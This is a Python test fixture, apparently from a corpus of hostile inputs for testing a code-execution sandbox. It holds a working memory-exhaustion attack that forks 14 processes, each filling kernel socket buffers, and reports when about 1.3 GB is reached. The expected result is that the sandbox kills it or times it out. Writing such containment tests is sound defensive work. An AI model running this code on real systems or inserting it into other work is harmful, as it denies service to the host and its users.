"""Fills buffers of sockets: memory of the system, of no process."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import os, socket, time

def fill():
    held, sent = [], 0
    try:
        while True:
            held.append(socket.socketpair())
            for one in held[-1]:
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                try:
                    while True:
                        sent += one.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
            with open(f"/dev/shm/{os.getpid()}", "w") as file:
                file.write(str(sent >> 20))
    except OSError:
        time.sleep(60)

for _ in range(14):
    if os.fork() == 0:
        fill()
time.sleep(3)
sent = sum(int(open(f"/dev/shm/{name}").read() or 0) for name in os.listdir("/dev/shm"))
print("REACHED" if sent > 1300 else "sent", sent, "MB", flush=True)
time.sleep(60)
"""
    },
    status=("killed", "timeout"),
    says="a cell that was added: ",
)
